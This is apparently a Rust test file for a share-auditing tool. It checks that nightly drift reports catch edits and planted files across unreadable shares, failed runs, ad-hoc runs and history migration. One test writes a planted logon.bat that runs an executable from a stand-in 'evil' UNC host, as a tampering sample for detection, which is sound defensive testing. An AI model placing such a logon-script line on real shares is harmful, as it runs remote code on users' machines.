//! Nightly series with one `--history` (issue 26, items 1-3): each location
//! is compared with the last finished run that read it, so what changed
//! while a share was unreadable, while a run's report set failed or while
//! an ad-hoc run audited other roots is still reported; and an existing
//! history of the previous schema is migrated.

use crate::common;

use common::*;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

/// A copy of sample-shares, report folders and a history, all of which
/// `nobody` can read and write (the unreadable night runs as `nobody`).
struct Nights {
    dir: tempfile::TempDir,
}

impl Nights {
    fn new() -> Nights {
        let dir = tempfile::tempdir().unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
        sample_copy(&dir.path().join("estate"));
        Nights { dir }
    }

    fn estate(&self) -> PathBuf {
        self.dir.path().join("estate")
    }

    fn history(&self) -> PathBuf {
        self.dir.path().join("estate.sqlite")
    }

    fn out(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn args(&self, root: &Path, out: &Path) -> Vec<std::ffi::OsString> {
        let mut args: Vec<std::ffi::OsString> = vec!["audit".into(), root.into(), "--out".into(), out.into()];
        args.extend(
            ["--history", self.history().to_str().unwrap()]
                .iter()
                .chain(&[
                    "--csv",
                    "machine",
                    "--format",
                    "csv,json",
                    "--quiet",
                    "--fail-on",
                    "never",
                ])
                .map(Into::into),
        );
        args
    }

    /// A night over `root` into `out`; its exit code and stderr.
    fn night(&self, root: &Path, out: &str) -> (i32, String) {
        let output = smsaudit().args(self.args(root, &self.out(out))).output().unwrap();
        (
            output.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&output.stderr).into_owned(),
        )
    }

    /// A night run as `nobody` (root reads everything).
    fn night_as_nobody(&self, out: &str) -> (i32, String) {
        let output = common::smsaudit_as_nobody()
            .args(self.args(&self.estate(), &self.out(out)))
            .output()
            .unwrap();
        let code = output.status.code().unwrap_or(-1);
        assert!(
            code != 126 && code != 127,
            "nobody cannot run {}: make the target folder readable",
            common::BIN
        );
        (code, String::from_utf8_lossy(&output.stderr).into_owned())
    }

    /// drift.csv of `out`: `(change, location, path)` -> the row.
    fn drift(&self, out: &str) -> Vec<std::collections::BTreeMap<String, String>> {
        read_csv_maps(&self.out(out).join("drift.csv"))
    }
}

fn has(rows: &[std::collections::BTreeMap<String, String>], change: &str, location: &str, path: &str) -> bool {
    rows.iter()
        .any(|r| r["change"] == change && r["location"] == location && r["path"] == path)
}

fn kinds(rows: &[std::collections::BTreeMap<String, String>]) -> Vec<String> {
    rows.iter()
        .map(|r| format!("{} {} {}", r["change"], r["location"], r["path"]))
        .collect()
}

/// Night 1 reads `\\DC1\SMSLOGON`; night 2 it is unreadable, and meanwhile
/// NETCONF.NCF is edited and a logon.bat planted; night 3 reads it again
/// and reports both changes against night 1 (exit 4), saying since when.
#[test]
fn changes_made_while_a_share_was_unreadable_are_reported_when_it_is_read_again() {
    if !require_unprivileged() {
        return;
    }
    let nights = Nights::new();
    let share = nights.estate().join("DC1/SMSLOGON");
    let (code, stderr) = nights.night_as_nobody("night1");
    assert!(code == 0 || code == 3, "night 1: {code} {stderr}");
    let night1 = nights.drift_started("night1");

    std::fs::set_permissions(&share, std::fs::Permissions::from_mode(0o000)).unwrap();
    let (code, stderr) = nights.night_as_nobody("night2");
    assert_eq!(code, 3, "night 2: the share is unreadable: {stderr}");
    let night2 = nights.drift("night2");
    assert!(
        has(&night2, "location_unreadable", r"\\DC1\SMSLOGON", ""),
        "{:?}",
        kinds(&night2)
    );
    assert!(
        !night2
            .iter()
            .any(|r| r["location"] == r"\\DC1\SMSLOGON" && r["change"] == "removed"),
        "{:?}",
        kinds(&night2)
    );

    std::fs::set_permissions(&share, std::fs::Permissions::from_mode(0o755)).unwrap();
    let netconf = share.join("Sites/MS1/NETCONF.NCF");
    let mut text = std::fs::read(&netconf).unwrap();
    text.extend_from_slice(b"\r\n; edited while the share was unreadable\r\n");
    std::fs::write(&netconf, text).unwrap();
    std::fs::write(share.join("logon.bat"), "@echo off\r\n\\\\evil\\x\\run.exe\r\n").unwrap();
    let (code, stderr) = nights.night_as_nobody("night3");
    let night3 = nights.drift("night3");
    assert_eq!(code, 4, "night 3: drift since night 1: {stderr} {:?}", kinds(&night3));
    assert!(
        has(&night3, "changed", r"\\DC1\SMSLOGON", r"Sites\MS1\NETCONF.NCF"),
        "{:?}",
        kinds(&night3)
    );
    assert!(
        has(&night3, "added", r"\\DC1\SMSLOGON", "logon.bat"),
        "{:?}",
        kinds(&night3)
    );
    let since = night3
        .iter()
        .find(|r| r["change"] == "location_readable" && r["location"] == r"\\DC1\SMSLOGON")
        .unwrap_or_else(|| panic!("{:?}", kinds(&night3)));
    assert!(since["old"].starts_with("unreadable"), "{since:?}");
    assert_eq!(since["new"], format!("ok, compared with the run of {night1}"));
}

impl Nights {
    /// When the run written to `out` started.
    fn drift_started(&self, out: &str) -> String {
        let json: serde_json::Value =
            serde_json::from_slice(&std::fs::read(self.out(out).join("audit.json")).unwrap()).unwrap();
        json["started"].as_str().unwrap().to_string()
    }
}

/// Files and folders unreadable in one run are "not compared", never
/// removed or added, against a history or an audit.json.
#[test]
fn unreadable_files_and_folders_are_not_compared() {
    if !require_unprivileged() {
        return;
    }
    let nights = Nights::new();
    let (code, stderr) = nights.night_as_nobody("night1");
    assert!(code == 0 || code == 3, "night 1: {code} {stderr}");
    let sites = nights.estate().join("DC1/SMSLOGON/Sites");
    let cfg = nights.estate().join("DC1/SMSLOGON/Sitescfg/Senior.lst");
    std::fs::set_permissions(&sites, std::fs::Permissions::from_mode(0o000)).unwrap();
    std::fs::set_permissions(&cfg, std::fs::Permissions::from_mode(0o000)).unwrap();
    let (code, stderr) = nights.night_as_nobody("night2");
    assert_eq!(code, 3, "night 2: {stderr}");
    let rows = nights.drift("night2");
    let of_logon = |r: &&std::collections::BTreeMap<String, String>| r["location"] == r"\\DC1\SMSLOGON";
    for row in rows.iter().filter(of_logon) {
        assert!(
            row["change"] == "not_compared",
            "only notes for what could not be read: {:?}",
            kinds(&rows)
        );
        assert!(row["new"].starts_with("unreadable"), "{row:?}");
    }
    assert!(
        has(&rows, "not_compared", r"\\DC1\SMSLOGON", "Sites"),
        "{:?}",
        kinds(&rows)
    );
    assert!(
        has(&rows, "not_compared", r"\\DC1\SMSLOGON", r"Sitescfg\Senior.lst"),
        "{:?}",
        kinds(&rows)
    );
    // The same with night 1's audit.json as the baseline.
    let baseline = nights.out("night1").join("audit.json");
    let output = common::smsaudit_as_nobody()
        .arg("audit")
        .arg(nights.estate())
        .arg("--out")
        .arg(nights.out("explicit"))
        .arg("--baseline")
        .arg(&baseline)
        .args(["--csv", "machine", "--format", "csv", "--quiet", "--fail-on", "never"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(3));
    let explicit = nights.drift("explicit");
    assert_eq!(kinds(&explicit), kinds(&rows));
    std::fs::set_permissions(&sites, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(&cfg, std::fs::Permissions::from_mode(0o644)).unwrap();
}

/// Night 2 sees the changes but cannot put its report set in place (a full
/// disk, exit 2): it is recorded as failed, and night 3 compares with
/// night 1, so the changes are reported.
#[cfg(target_os = "linux")]
#[test]
fn a_run_whose_report_set_failed_is_never_the_baseline() {
    let nights = Nights::new();
    let Some(disk) = common::Mount::new(
        &["-t", "tmpfs", "-o", "size=1m", "tmpfs"].map(std::ffi::OsStr::new),
        &nights.out("disk"),
    ) else {
        return;
    };
    let (code, stderr) = nights.night(&nights.estate(), "night1");
    assert!(code == 0 || code == 3, "night 1: {code} {stderr}");
    let cap = nights.estate().join("SERVER1/CAP_MS1");
    let edited = first_file(&cap);
    let mut bytes = std::fs::read(&edited).unwrap();
    bytes.extend_from_slice(b"\r\n; edited\r\n");
    std::fs::write(&edited, bytes).unwrap();
    std::fs::write(cap.join("planted.bat"), "@echo off\r\n").unwrap();
    {
        use std::io::Write;
        let mut filler = std::fs::File::create(disk.0.join("filler")).unwrap();
        while filler.write_all(&[0u8; 4096]).is_ok() {}
        let full = filler.metadata().unwrap().len();
        filler.set_len(full.saturating_sub(100 * 1024)).unwrap();
    }
    let (code, stderr) = nights.night(&nights.estate(), "disk/out");
    assert_eq!(code, 2, "night 2: its report set cannot be written: {stderr}");
    let (code, stderr) = nights.night(&nights.estate(), "night3");
    let night3 = nights.drift("night3");
    assert_eq!(
        code,
        4,
        "night 3: the changes since night 1: {stderr} {:?}",
        kinds(&night3)
    );
    let relative = edited.strip_prefix(&cap).unwrap().to_str().unwrap().replace('/', "\\");
    assert!(
        has(&night3, "changed", r"\\SERVER1\CAP_MS1", &relative),
        "{:?}",
        kinds(&night3)
    );
    assert!(
        has(&night3, "added", r"\\SERVER1\CAP_MS1", "planted.bat"),
        "{:?}",
        kinds(&night3)
    );
    // The history says what happened: night 2 failed with exit code 2.
    if require("sqlite3", "to read the history as SQLite's own shell does") {
        let output = std::process::Command::new("sqlite3")
            .arg(nights.history())
            .arg("SELECT id, exit_code, finished FROM runs ORDER BY id")
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&output.stdout), "1|0|1\n2|2|0\n3|4|1\n");
    }
}

/// The first regular file under `folder`, in name order.
fn first_file(folder: &Path) -> PathBuf {
    let mut entries: Vec<_> = std::fs::read_dir(folder).unwrap().map(|e| e.unwrap().path()).collect();
    entries.sort();
    for entry in &entries {
        if entry.is_file() {
            return entry.clone();
        }
    }
    entries
        .iter()
        .find(|e| e.is_dir())
        .map(|d| first_file(d))
        .expect("a file")
}

/// An ad-hoc run of one server's shares with the nightly history neither
/// ends what the history knows of the others nor hides their drift: the
/// next full night compares them with the last night that read them.
#[test]
fn an_ad_hoc_run_of_one_share_keeps_the_others_drift() {
    let nights = Nights::new();
    let (code, stderr) = nights.night(&nights.estate(), "night1");
    assert!(code == 0 || code == 3, "night 1: {code} {stderr}");
    let cap = nights.estate().join("SERVER1/CAP_MS1");
    let edited = first_file(&cap);
    let mut bytes = std::fs::read(&edited).unwrap();
    bytes.extend_from_slice(b"\r\n; edited\r\n");
    std::fs::write(&edited, bytes).unwrap();
    let (code, stderr) = nights.night(&nights.estate().join("DC1"), "adhoc");
    assert!(code != 2, "the ad-hoc run: {stderr}");
    let (code, stderr) = nights.night(&nights.estate(), "night2");
    let night2 = nights.drift("night2");
    assert_eq!(code, 4, "{stderr} {:?}", kinds(&night2));
    assert!(
        !night2.iter().any(|r| r["change"] == "location_added"),
        "{:?}",
        kinds(&night2)
    );
    let relative = edited.strip_prefix(&cap).unwrap().to_str().unwrap().replace('/', "\\");
    assert!(
        has(&night2, "changed", r"\\SERVER1\CAP_MS1", &relative),
        "{:?}",
        kinds(&night2)
    );
}

/// A history written by the previous schema (tests/fixtures/history-schema2.sqlite,
/// one run of sample-shares by smsaudit before issue 26) is migrated by
/// the next run, is still one SQLite's own shell reads, and its run is the
/// baseline of the next.
#[test]
fn a_history_of_the_previous_schema_is_migrated() {
    if !require("sqlite3", "to check the migrated history with SQLite's own shell") {
        return;
    }
    let nights = Nights::new();
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/history-schema2.sqlite");
    std::fs::copy(&fixture, nights.history()).unwrap();
    let (code, stderr) = nights.night(&nights.estate(), "night");
    assert!(code != 2, "{stderr}");
    let rows = nights.drift("night");
    assert!(
        !rows.iter().any(|r| r["change"].starts_with("location_")),
        "compared with the old run, location by location: {:?}",
        kinds(&rows)
    );
    let sqlite = |sql: &str| {
        let output = std::process::Command::new("sqlite3")
            .arg(nights.history())
            .arg(sql)
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    assert_eq!(sqlite("PRAGMA integrity_check"), "ok\n");
    assert_eq!(sqlite("PRAGMA user_version"), "3\n");
    assert_eq!(sqlite("SELECT id, finished FROM runs ORDER BY id"), "1|1\n2|1\n");
}

/// A run stopped by a signal after its report set was put in place is
/// recorded (with the signal's exit code, as finished): the history and
/// the exit code agree, and the next night compares with it.
#[cfg(unix)]
#[test]
fn a_run_stopped_after_its_set_was_put_in_place_is_recorded() {
    use std::io::BufRead;
    let nights = Nights::new();
    let mut child = std::process::Command::new(common::BIN)
        .args(nights.args(&nights.estate(), &nights.out("night1")))
        .env("SMSAUDIT_FAULT_PAUSE", "committed:0")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = std::io::BufReader::new(child.stderr.take().unwrap());
    let mut seen = String::new();
    while !seen.contains("fault injected: paused") {
        let mut line = String::new();
        if stderr.read_line(&mut line).unwrap() == 0 {
            panic!("the run ended before its pause: {seen}");
        }
        seen.push_str(&line);
    }
    let pid = rustix::process::Pid::from_raw(child.id() as i32).unwrap();
    rustix::process::kill_process(pid, rustix::process::Signal::INT).unwrap();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stderr, &mut rest).unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(130), "{seen}{rest}");
    assert!(rest.contains("was already complete"), "{rest}");
    if require("sqlite3", "to read the history as SQLite's own shell does") {
        let output = std::process::Command::new("sqlite3")
            .arg(nights.history())
            .arg("SELECT id, exit_code, finished FROM runs ORDER BY id")
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&output.stdout), "1|130|1\n");
    }
    let (code, stderr) = nights.night(&nights.estate(), "night2");
    assert!(code == 0 || code == 3, "{stderr}");
    assert!(nights.drift("night2").iter().all(|r| r["change"] == "not_compared"));
}

/// An ad-hoc run of one share with the nightly history (issue 26 item 3)
/// looks at no other share: it resolves none of their findings, and their
/// states stay current in the history.
#[test]
fn an_ad_hoc_run_of_one_share_ends_nothing_of_the_others() {
    let nights = Nights::new();
    let (code, stderr) = nights.night(&nights.estate(), "night1");
    assert!(code == 0 || code == 3, "night 1: {code} {stderr}");
    let json = |out: &str| -> serde_json::Value {
        serde_json::from_slice(&std::fs::read(nights.out(out).join("audit.json")).unwrap()).unwrap()
    };
    let night1 = json("night1");
    let elsewhere = |f: &serde_json::Value| f["location"] != r"\\SERVER1\CAP_MS1";
    assert!(
        night1["findings"].as_array().unwrap().iter().any(elsewhere),
        "night 1 has findings of other shares"
    );
    let (code, stderr) = nights.night(&nights.estate().join("SERVER1/CAP_MS1"), "adhoc");
    assert!(code != 2, "the ad-hoc run: {stderr}");
    let adhoc = json("adhoc");
    let resolved: Vec<&serde_json::Value> = adhoc["history"]["resolved"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| elsewhere(f))
        .collect();
    assert!(resolved.is_empty(), "resolved without a look: {resolved:?}");
    let output = smsaudit()
        .arg("history")
        .arg(nights.history())
        .args(["--location", r"\\DC1\SMSLOGON", "--csv=machine"])
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let table = String::from_utf8_lossy(&output.stdout).into_owned();
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    let now = reader.headers().unwrap().iter().position(|h| h == "now").unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert!(!rows.is_empty(), "{table}");
    assert!(rows.iter().all(|r| &r[now] == "yes"), "{table}");
}
